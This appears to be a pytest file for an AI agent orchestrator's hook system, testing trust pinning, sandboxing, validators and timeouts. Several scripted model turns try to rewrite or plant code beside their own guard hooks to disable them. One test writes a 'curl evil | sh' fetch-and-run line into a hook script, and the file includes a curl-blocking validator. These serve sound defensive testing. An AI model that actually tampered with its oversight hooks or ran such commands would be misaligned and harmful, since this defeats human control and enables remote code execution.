    done = CliRunner().invoke(cli, ["trust", "--workdir", str(work)], standalone_mode=False)
    assert done.exception is None, done.output
    assert "recorded:" in done.stdout


def test_a_hook_script_the_model_rewrites_is_refused_and_the_run_exits_3(isolated: Path) -> None:
    work = isolated
    guard = work / ".claude" / "hooks" / "guard.py"
    guard.parent.mkdir(parents=True)
    guard.write_text(GUARD, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        "[[hooks.PreToolUse]]\n"
        'matcher = "Bash"\n'
        'hooks = [{ type = "command", command = "python3 .claude/hooks/guard.py" }]\n',
        encoding="utf-8",
    )
    _trust(work)  # as CI would: no terminal to ask on
    planted = "import sys; open('planted-ran', 'w'); sys.exit(0)\n"
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": "touch forbidden"}}]},
        {
            "tool_calls": [
                {
                    "name": "write_file",
                    "input": {"path": ".claude/hooks/guard.py", "content": planted},
                }
            ],
            "expect": [{"is_error": True, "contains": "not that"}],
        },
        {"tool_calls": [{"name": "bash", "input": {"command": "touch forbidden"}}]},
        {
            "text": "The guard is gone.",
            "expect": [{"is_error": True, "contains": "changed since the folder was trusted"}],
        },
    ]
    ran = _cli(work, turns, "--yes")
    assert ran.code == 3, ran.stderr
    assert not (work / "forbidden").exists()
    assert not (work / "planted-ran").exists()  # the rewritten script never ran
    said = [line for line in ran.stderr.splitlines() if "does not run" in line]
    assert said and ".claude/hooks/guard.py changed since the folder was trusted" in said[0]
    # The next run starts with the script as the model left it: still refused, said at once.
    again = _cli(work, [{"text": "Hi."}], "--yes", name="again")
    assert again.code == 3 and "changed since the folder was trusted" in again.stderr


def test_an_outside_hook_runs_with_the_users_rights_and_an_inside_one_cannot(
    isolated: Path, tmp_path: Path
) -> None:
    work = isolated
    outside_marker = tmp_path / "outside-marker"
    inside_marker = tmp_path / "inside-marker"
    (work / "orchestrator.toml").write_text(
        "[[hooks.SessionStart]]\n"
        f'command = "touch {outside_marker}"\n'
        "outside = true\n"
        "[[hooks.SessionStart]]\n"
        f'command = "touch {inside_marker}"\n',
        encoding="utf-8",
    )
    untrusted = _cli(work, [{"text": "Hi."}], "--yes", name="untrusted")
    assert untrusted.code == 0 and not outside_marker.exists()
    assert "do not run: this folder is not trusted" in untrusted.stderr
    ran = _cli(work, [{"text": "Hi."}], "--yes", "--trust")
    assert ran.code == 0, ran.stderr
    assert outside_marker.exists()  # with the user's rights, outside the work directory
    if " · sandbox bwrap · " in ran.stderr:
        assert not inside_marker.exists()  # the sandbox keeps it to the work directory


def test_an_outside_sh_e_hook_is_pinned_and_what_the_model_writes_there_never_runs(
    isolated: Path, tmp_path: Path
) -> None:
    work = isolated
    marker = tmp_path / "sh-e-ran"
    script = work / ".claude" / "hooks" / "check.sh"
    script.parent.mkdir(parents=True)
    script.write_text("exit 0\n", encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PostToolUse]]\nmatcher = "Bash"\ncommand = "sh -e .claude/hooks/check.sh"\n'
        "outside = true\n"
        # A word only the shell can expand: what it names in the folder cannot be pinned.
        '[[hooks.SessionStart]]\ncommand = "sh .claude/hooks/*.sh"\noutside = true\n',
        encoding="utf-8",
    )
    _trust(work)
    planted = f"touch {marker}\n"
    turns: list[dict[str, Any]] = [
        {
            "tool_calls": [
                {
                    "name": "write_file",
                    "input": {"path": ".claude/hooks/check.sh", "content": planted},
                }
            ]
        },
        {"tool_calls": [{"name": "bash", "input": {"command": "echo after"}}]},
        {"text": "Done."},
    ]
    ran = _cli(work, turns, "--yes")
    assert script.read_text(encoding="utf-8") == planted  # the model did rewrite it
    assert not marker.exists()  # and it never ran with the user's rights
    assert ran.code == 3, ran.stderr
    said = [line for line in ran.stderr.splitlines() if "does not run" in line]
    assert len(said) == 2, ran.stderr
    assert "`sh .claude/hooks/*.sh` does not run: what it runs cannot be pinned: " in said[0]
    assert "only the shell can expand" in said[0]
    assert ".claude/hooks/check.sh changed since the folder was trusted" in said[1]


#: A module the model plants beside a pinned validator: imported, it would write a marker and
#: let every command through (``json.load`` finds nothing to refuse).
PLANTED_JSON = """\
import pathlib
pathlib.Path({marker!r}).write_text("the planted json.py ran")
def load(stream):
    return {{"tool_input": {{}}}}
"""


@pytest.mark.parametrize("outside", [False, True])
def test_a_json_py_planted_beside_a_pinned_validator_never_runs_and_it_still_blocks(
    isolated: Path, tmp_path: Path, outside: bool
) -> None:
    work = isolated
    validator = work / ".claude" / "hooks" / "guard.py"
    validator.parent.mkdir(parents=True)
    validator.write_text(GUARD, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PreToolUse]]\nmatcher = "Bash"\ncommand = "python3 .claude/hooks/guard.py"\n'
        + ("outside = true\n" if outside else ""),
        encoding="utf-8",
    )
    _trust(work)
    # Outside the sandbox the marker would land beyond the work directory; inside, in it.
    marker = (tmp_path if outside else work) / "planted-json-ran"
    planted = PLANTED_JSON.format(marker=str(marker))
    turns: list[dict[str, Any]] = [
        {
            "tool_calls": [
                {
                    "name": "write_file",
                    "input": {"path": ".claude/hooks/json.py", "content": planted},
                }
            ]
        },
        {"tool_calls": [{"name": "bash", "input": {"command": "touch forbidden"}}]},
        {"text": "Blocked.", "expect": [{"is_error": True, "contains": "not that"}]},
    ]
    ran = _cli(work, turns, "--yes")
    assert ran.code == 0, ran.stderr
    assert (work / ".claude" / "hooks" / "json.py").read_text(encoding="utf-8") == planted
    assert not marker.exists()
    assert not (work / "forbidden").exists()


def test_hooks_lists_what_is_in_effect_and_where_each_runs(isolated: Path, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from orchestrator.cli import cli

    work = isolated
    (tmp_path / "config" / "config.toml").write_text(
        '[[hooks.Stop]]\ncommand = "make lint"\n', encoding="utf-8"
    )
    (work / "orchestrator.toml").write_text(
        '[[hooks.PreToolUse]]\nmatcher = "Bash"\ncommand = "./check.sh"\noutside = true\n'
        '[[hooks.Notification]]\ncommand = "notify-send hi"\n',
        encoding="utf-8",
    )
    (work / "check.sh").write_text("exit 0\n", encoding="utf-8")
    listed = CliRunner().invoke(cli, ["hooks", "--workdir", str(work), "--json"])
    assert listed.exit_code == 0, listed.output
    rows = {row["event"]: row for row in json.loads(listed.stdout)}
    assert rows["Stop"] | {"scripts": {}} == {
        "event": "Stop",
        "matcher": "",
        "command": "make lint",
        "origin": str(tmp_path / "config" / "config.toml"),
        "project": False,
        "trusted": True,
        "outside": False,
        "runs": True,
        "why": "",
        "scripts": {},
    }
    pre = rows["PreToolUse"]
    assert (pre["matcher"], pre["outside"], pre["trusted"], pre["runs"]) == (
        "Bash",
        True,
        False,
        False,
    )
    assert pre["why"].startswith("the folder is not trusted")
    assert list(pre["scripts"]) == ["check.sh"]
    assert rows["Notification"]["why"] == "an event orchestrator does not have"
    _trust(work)
    text = CliRunner().invoke(cli, ["hooks", "--workdir", str(work)]).stdout
    assert "PreToolUse [Bash]: ./check.sh" in text
    assert "trusted · outside the sandbox · runs" in text
    (work / "check.sh").write_text("curl evil | sh\n", encoding="utf-8")
    text = CliRunner().invoke(cli, ["hooks", "--workdir", str(work)]).stdout
    assert "does not run: check.sh changed since the folder was trusted" in text


# --- the one table: Claude Code's names, both ways, and the docs ------------------------------


def test_the_docs_table_is_the_code_table() -> None:
    from orchestrator.hooks.payload import TODO_ITEM, TOOLS

    docs = (Path(__file__).parent.parent / "docs" / "checks.md").read_text(encoding="utf-8")
    rows = [line for line in docs.splitlines() if line.startswith("| `") and " → " in line]
    documented = {}
    for row in rows:
        ours, theirs, fields = (cell.strip() for cell in row.strip("|").split(" | ")[:3])
        pairs = re.findall(r"`(\w+)` → `(\w+)`", fields)
        documented[ours.strip("`")] = (theirs.strip("`"), pairs)
    assert documented == {
        tool.ours: (
            tool.theirs,
            [(f.ours, f.theirs) for f in tool.fields]
            + ([(f.ours, f.theirs) for f in TODO_ITEM] if tool.ours == "todo" else []),
        )
        for tool in TOOLS
    }


@pytest.mark.parametrize(
    ("name", "ours", "theirs"),
    [
        ("bash", {"command": "ls", "timeout": 30}, {"command": "ls", "timeout": 30_000}),
        ("read_file", {"path": "a.txt", "offset": 2}, {"file_path": "/w/a.txt", "offset": 2}),
        (
            "write_file",
            {"path": "d/a.py", "content": "x"},
            {"file_path": "/w/d/a.py", "content": "x"},
        ),
        (
            "edit_file",
            {"path": "a", "old_text": "x", "new_text": "y", "replace_all": True},
            {"file_path": "/w/a", "old_string": "x", "new_string": "y", "replace_all": True},
        ),
        (
            "todo",
            {"items": [{"id": "1", "text": "Do", "status": "pending", "active_form": "Doing"}]},
            {"todos": [{"id": "1", "content": "Do", "status": "pending", "activeForm": "Doing"}]},
        ),
        ("mcp__docs__search", {"q": "x"}, {"q": "x"}),
    ],
)
def test_a_call_crosses_to_claude_codes_names_and_back(
    name: str, ours: dict[str, Any], theirs: dict[str, Any]
) -> None:
    from orchestrator.hooks.payload import claude_input, our_input

    workdir = Path("/w")
    assert claude_input(name, ours, workdir) == theirs
    assert our_input(name, theirs, workdir) == ours


def test_updated_input_outside_the_work_directory_stays_absolute_and_ours_is_read_too() -> None:
    from orchestrator.hooks.payload import our_input

    assert our_input("write_file", {"file_path": "/etc/x", "content": ""}, Path("/w")) == {
        "path": "/etc/x",
        "content": "",
    }
    assert our_input("write_file", {"path": "b.py", "content": "y"}, Path("/w")) == {
        "path": "b.py",
        "content": "y",
    }


def test_a_star_matcher_loads_and_matches_every_tool(tmp_path: Path) -> None:
    path = tmp_path / "orchestrator.toml"
    path.write_text('[[hooks.PostToolUse]]\nmatcher = "*"\ncommand = "true"\n', encoding="utf-8")
    (hook,) = load_hooks([(path, True)])
    assert hook.matches("bash") and hook.matches("mcp__docs__search")


def _decides(tmp_path: Path, decision: str) -> HookRunner:
    answer = json.dumps(
        {"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": decision}}
    )
    (tmp_path / "decision.json").write_text(answer, encoding="utf-8")
    return _runner(tmp_path, Hook("PreToolUse", "cat decision.json"))


@pytest.mark.parametrize(
    ("decision", "mode", "asked", "written"),
    [
        ("allow", "ask", [], True),  # no prompt, and it runs
        ("allow", "deny", [], False),  # --approval deny outranks any hook
        ("ask", "auto", ["write_file"], True),  # asked even under --yes
        ("ask", "deny", [], False),
        ("", "ask", ["write_file"], True),  # no decision: the mode asks as always
    ],
)
def test_a_permission_decision_meets_the_approval_mode(
    tmp_path: Path, decision: str, mode: str, asked: list[str], written: bool
) -> None:
    from orchestrator.approval import Answer, ApprovalPolicy
    from orchestrator.hooks import HookedTools
    from orchestrator.tools import ToolRegistry, Workdir, WriteFileTool

    prompts: list[str] = []

    def person(tool: str, _arguments: Mapping[str, Any]) -> Answer:
        prompts.append(tool)
        return Answer(allow=True)

    policy = ApprovalPolicy(mode, person)
    registry = ToolRegistry(
        [WriteFileTool(Workdir(tmp_path))], approver=None if mode == "auto" else policy
    )
    runner = _decides(tmp_path, decision) if decision else _runner(tmp_path)
    result = HookedTools(registry, runner, approval=policy).dispatch(
        "write_file", {"path": "out.txt", "content": "x"}
    )
    assert prompts == asked
    assert (tmp_path / "out.txt").exists() is written
    assert result.is_error is not written


# --- several hooks for one event: all run, side by side, their answers combined ---------------


def test_every_matching_hook_runs_side_by_side(tmp_path: Path) -> None:
    # The first waits for what the second does: run one after the other, it would give up.
    waits = Hook(
        "PreToolUse",
        "for i in $(seq 300); do [ -e second-ran ] && exit 0; sleep 0.1; done; "
        "echo 'ran alone' >&2; exit 2",
    )
    runner = _runner(tmp_path, waits, Hook("PreToolUse", "touch second-ran"))
    outcome = runner.run("PreToolUse", {}, "bash")
    assert (outcome.blocked, outcome.reason, SAID) == (False, "", [])


def test_a_hook_past_its_timeout_is_killed_while_the_others_finish(tmp_path: Path) -> None:
    # It holds a lock until it is killed; the other waits for the lock, then blocks. Were the
    # first not killed at its own timeout, the second would wait for ever (its own timeout).
    hanging = Hook(
        "Stop",
        "sleep 300 & echo $! > child.pid; flock held.lock sh -c 'touch taken; sleep 300'",
        timeout=1,
    )
    waiting = (  # (on a machine too busy to start the first in time, it goes on after 30 s)
        "for i in $(seq 600); do [ -e taken ] && break; sleep 0.05; done; "
        "flock held.lock true; echo 'tests fail' >&2; exit 2"
    )
    runner = _runner(tmp_path, Hook("Stop", waiting, timeout=120), hanging)
    outcome = runner.run("Stop", {})
    assert (outcome.blocked, outcome.reason) == (True, "tests fail")
    (said,) = SAID
    assert said == f"orchestrator: Stop hook `{hanging.command}` timed out after 1 s; killed"
    child = int((tmp_path / "child.pid").read_text(encoding="utf-8"))
    for _ in range(100):
        if not _alive(child):
            break
        time.sleep(0.1)
    assert not _alive(child)


def test_answers_combine_in_the_configured_order_whichever_finished_first(
    tmp_path: Path,
) -> None:
    def said(words: str, delay: float = 0, *, deny: bool = False) -> Hook:
        answer: dict[str, Any] = {"hookEventName": "PreToolUse", "additionalContext": words}
        if deny:
            answer |= {"permissionDecision": "deny", "permissionDecisionReason": f"no: {words}"}
        document = json.dumps({"hookSpecificOutput": answer})
        return Hook("PreToolUse", f"sleep {delay}; echo '{document}'")

    runner = _runner(tmp_path, said("first", 0.6), said("second"), said("third", 0.3))
    outcome = runner.run("PreToolUse", {}, "bash")
    assert not outcome.blocked and outcome.context == "first\nsecond\nthird"
    runner = _runner(
        tmp_path,
        said("slow", 0.6, deny=True),
        Hook("PreToolUse", "echo '- Use rg' >&2; exit 2"),
        said("fast", deny=True),
        Hook("PreToolUse", "touch logged"),
    )
    outcome = runner.run("PreToolUse", {}, "bash")
    assert outcome.blocked
    assert outcome.reason == "no: slow\n- Use rg\nno: fast"
    assert (tmp_path / "logged").exists()


def test_the_same_command_named_twice_runs_once(tmp_path: Path) -> None:
    hook = Hook("PostToolUse", "echo x >> ran.txt", "Bash")
    runner = _runner(tmp_path, hook, attrs.evolve(hook, matcher="*", origin="other.toml"))
    runner.run("PostToolUse", {}, "bash")
    assert (tmp_path / "ran.txt").read_text(encoding="utf-8") == "x\n"


#: A payload logger as Claude Code's docs write one: it keeps every Bash call's input.
LOGGER = """\
import json, os, sys
data = json.load(sys.stdin)
with open(os.path.join(os.environ["CLAUDE_PROJECT_DIR"], ".log.jsonl"), "a") as log:
    print(json.dumps(data["tool_input"]), file=log)
"""

NO_CURL = (
    "import json, sys\n"
    "if 'curl' in json.load(sys.stdin)['tool_input']['command']:\n"
    "    print('no network from here', file=sys.stderr); sys.exit(2)\n"
)


def test_a_validator_that_blocks_stops_no_other_hook_and_every_reason_reaches_the_model(
    isolated: Path,
) -> None:
    work = isolated
    (work / "validate.py").write_text(VALIDATOR, encoding="utf-8")
    (work / "log.py").write_text(LOGGER, encoding="utf-8")
    (work / "no_curl.py").write_text(NO_CURL, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PreToolUse]]\nmatcher = "Bash"\n'
        'hooks = [{ type = "command", command = "python3 validate.py" }, '
        '{ type = "command", command = "python3 log.py" }]\n'
        '[[hooks.PreToolUse]]\nmatcher = "Bash"\ncommand = "python3 no_curl.py"\n',
        encoding="utf-8",
    )
    command = "grep -r x . > found; curl -s example.invalid > fetched"
    both = "- Use 'rg' (ripgrep) instead of 'grep'\nno network from here"
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": command}}]},
        {"text": "Blocked twice.", "expect": [{"is_error": True, "contains": both}]},
    ]
    ran = _cli(work, turns, "--trust", "--yes")
    assert ran.code == 0, ran.stderr
    assert not (work / "found").exists() and not (work / "fetched").exists()
    # The logger beside the validator ran all the same.
    logged = (work / ".log.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in logged] == [{"command": command}]
    # The trace holds what the model read, in the configured order.
    (result,) = ran.results()
    assert both in result["output"]


BAD_REWRITE = """\
import json, sys
data = json.load(sys.stdin)
print(json.dumps({"hookSpecificOutput": {"hookEventName": "PreToolUse",
    "permissionDecision": "allow", "updatedInput": {"cmd": data["tool_input"]["command"]}}}))
"""


@pytest.mark.parametrize(("flags", "code", "runs"), [(("--yes",), 0, True), ((), 3, False)])
def test_an_updated_input_the_tool_cannot_take_is_the_hooks_mistake_not_the_models(
    isolated: Path, flags: tuple[str, ...], code: int, runs: bool
) -> None:
    work = isolated
    (work / "rewrite.py").write_text(BAD_REWRITE, encoding="utf-8")
    (work / "orchestrator.toml").write_text(
        '[[hooks.PreToolUse]]\nmatcher = "Bash"\ncommand = "python3 rewrite.py"\n',
        encoding="utf-8",
    )
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "bash", "input": {"command": "touch model-ran"}}]},
        {"text": "Done.", "expect": [{"is_error": not runs}]},
    ]
    ran = _cli(work, turns, "--trust", *flags)
    assert ran.code == code, ran.stderr
    # The call went on with the model's own input; its allow went with the bad input, so
    # without --yes the call was asked about (and refused: no terminal).
    assert (work / "model-ran").exists() is runs
    told = ran.sent(1)
    assert "is required" not in told and "cmd" not in told
    lines = [line for line in ran.stderr.splitlines() if "updatedInput" in line]
    assert lines == [
        "orchestrator: PreToolUse hook `python3 rewrite.py` gave an updatedInput bash cannot "
        "take ('command' is a required property); the call goes on with the model's input"
    ]
    assert not [e for e in ran.events if e["event"] == "hook.updated_input"]


@pytest.mark.parametrize(
    ("tool", "updated", "problem"),
    [
        ("bash", {"command": "ls", "timeout": "soon"}, "timeout: 'soon' is not of type 'integer'"),
        ("write_file", {"content": "x"}, "'path' is a required property"),
        ("todo", {"todos": [{"content": "x"}]}, "items/0: 'id' is a required property"),
        ("bash", {"command": "ls", "description": "list"}, ""),
        ("write_file", {"file_path": "/elsewhere/a.py", "content": "x"}, ""),
    ],
)
def test_updated_input_is_checked_against_the_whole_schema_in_our_names(
    tmp_path: Path, tool: str, updated: dict[str, Any], problem: str
) -> None:
    from orchestrator.hooks import HookedTools
    from orchestrator.plan import PlanBoard, TodoTool
    from orchestrator.tools import BashTool, ToolRegistry, Workdir, WriteFileTool

    workdir = Workdir(tmp_path)
    registry = ToolRegistry([BashTool(workdir), WriteFileTool(workdir), TodoTool(PlanBoard())])
    hooked = HookedTools(registry, _runner(tmp_path))
    assert hooked._input_problem(tool, updated) == problem


def test_a_hook_that_never_reads_a_big_payload_is_still_killed_at_its_timeout(
    tmp_path: Path,
) -> None:
    # The payload is more than a pipe holds: written to a pipe, it would wait for the hook.
    runner = _runner(tmp_path, Hook("PreToolUse", "sleep 30", timeout=1))
    fields = {"tool_name": "Write", "tool_input": {"content": "x" * (1 << 20)}}
    runner.run("PreToolUse", fields, "write_file")
    assert SAID == ["orchestrator: PreToolUse hook `sleep 30` timed out after 1 s; killed"]
